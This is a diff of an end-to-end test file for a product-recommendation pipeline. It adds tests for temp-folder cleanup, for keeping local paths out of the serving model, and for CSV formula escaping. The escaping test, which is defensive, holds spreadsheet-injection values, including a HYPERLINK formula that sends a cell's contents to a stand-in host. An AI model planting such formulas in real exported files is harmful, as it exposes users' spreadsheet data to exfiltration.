@@ -12,8 +12,8 @@ import numpy as np
 import pytest
 
 from conftest import ROOT
-from e2e_helpers import (ODD_CUSTOMERS, ODD_PRODUCTS, catalog_ids, query_inputs, recommend_cli,
-                         run_pipeline)
+from e2e_helpers import (ODD_CUSTOMERS, ODD_PRODUCTS, catalog_ids, query_inputs, read_recs,
+                         recommend_cli)
 from pipelines import codegen
 from pipelines.builder import COMPONENTS, paths
 from pipelines.runners.local import completed_components, results
@@ -22,9 +22,9 @@ from transform.naming import QUERY_ID
 pytestmark = pytest.mark.e2e
 
 
-@pytest.fixture(scope="module")
-def run(tmp_path_factory):
-    return run_pipeline(tmp_path_factory.mktemp("e2e"), "e2e-test", ["training.epochs=6"])
+@pytest.fixture
+def run(e2e_run):
+    return e2e_run  # one run for the session (conftest.py)
 
 
 def trained_products(run):
@@ -327,8 +327,7 @@ def test_buy_again_ranks_each_customers_own_items_by_the_model(run, tmp_path):
     users.write_text("customer_id\nC00000\n0042\n")
     report = recommend(run["root"], str(users), 5, str(tmp_path / "recs.csv"),
                        buy_again_out=str(tmp_path / "again.csv"), log=lambda line: None)
-    with open(tmp_path / "again.csv", encoding="utf-8") as handle:
-        again = list(csv.DictReader(handle))
+    again = read_recs(tmp_path / "again.csv")
     assert report["buy_again_rows"] == len(again) > 5
     with open(os.path.join(run["data"], "purchases.csv"), encoding="utf-8") as handle:
         rows = list(csv.DictReader(handle))
@@ -518,3 +517,57 @@ def test_the_models_config_holds_no_local_path(run):
     assert run["root"] not in text and run["data"] not in text
     config = json.loads(text)
     assert config["data"]["path"] == "purchases.csv" and config["pipeline"]["root"] is None
+
+
+def test_a_run_leaves_nothing_in_the_system_temp_folder(run):
+    """TFX builds each module's wheel in a temporary folder it never removes (a dozen
+    tmpXXXXXXXX/ folders per run, holding the modules and their absolute data paths): the
+    run's temporary files live in <pipeline folder>/.tmp-<pid>/ and go when it ends."""
+    assert run["system_tmp_after"] == [], run["system_tmp_after"]
+    assert not [n for n in os.listdir(run["root"]) if n.startswith(".tmp-")]
+
+
+def test_the_serving_model_holds_no_local_path(run):
+    """Transform names each lookup table after its vocabulary file's absolute path; the
+    exported model carries the asset's name and a digest instead (trainer/export.py)."""
+    serving = results(run["root"])["serving_model"]
+    top = os.path.dirname(os.path.dirname(run["root"]))  # the test's temporary folder
+    for folder, _, files in os.walk(serving):
+        for name in files:
+            if folder.endswith("variables"):
+                continue  # weights: numbers
+            data = open(os.path.join(folder, name), "rb").read()
+            assert top.encode() not in data and b"pytest-of-" not in data, (folder, name)
+            assert b"tftransform_tmp" not in data and b".temp_path" not in data, (folder, name)
+    pb = open(os.path.join(serving, "saved_model.pb"), "rb").read()
+    assert b"asset:_candidate_id#" in pb and b"asset:_query_id#" in pb
+
+
+def test_recommend_escapes_formula_ids_and_a_program_gets_them_back_exactly(run, tmp_path):
+    """Ids a spreadsheet would run (=HYPERLINK(...), +SUM(1+1), @SUM(A1)) get a leading '
+    (OWASP); '-5' (a number) is written as it is; '-A12' is escaped; unescaping gives every
+    id exactly, and --no-escape-formulas writes them exactly."""
+    from e2e_helpers import write_users
+    from pipelines.csvsafe import PLAIN_NUMBER, TRIGGERS
+
+    users = write_users(tmp_path / "users.csv", ["@SUM(A1)", "-A12", "0042"])
+    catalog = catalog_ids(run)
+    files = {}
+    for flag in ("--escape-formulas", "--no-escape-formulas"):
+        out = tmp_path / f"{flag}.csv"
+        done = subprocess.run([sys.executable, "-m", "pipelines", "recommend", "--model",
+                               run["root"], "--users", users, "--k", str(len(catalog)),
+                               "--include-seen", "--out", str(out), flag],
+                              capture_output=True, text=True, cwd=ROOT)
+        assert done.returncode == 0, done.stderr[-3000:]
+        with open(out, encoding="utf-8", newline="") as handle:
+            files[flag] = list(csv.reader(handle))[1:]
+    cells = [c for row in files["--escape-formulas"] for c in row[:2]]
+    assert not [c for c in cells if c.startswith(TRIGGERS) and not PLAIN_NUMBER.match(c)]
+    assert {"'=HYPERLINK(\"x.example/?\"&A1,\"win\")", "'+SUM(1+1)", "-5", "'@SUM(A1)",
+            "'-A12"} <= set(cells)
+    exact = read_recs(tmp_path / "--escape-formulas.csv")
+    assert {r["item_id"] for r in exact} == catalog
+    assert [r["user_id"] for r in exact][::len(catalog)] == ["@SUM(A1)", "-A12", "0042"]
+    assert [[r["user_id"], r["item_id"], r["rank"]] for r in exact] == files[
+        "--no-escape-formulas"]  # the same rows, written exactly
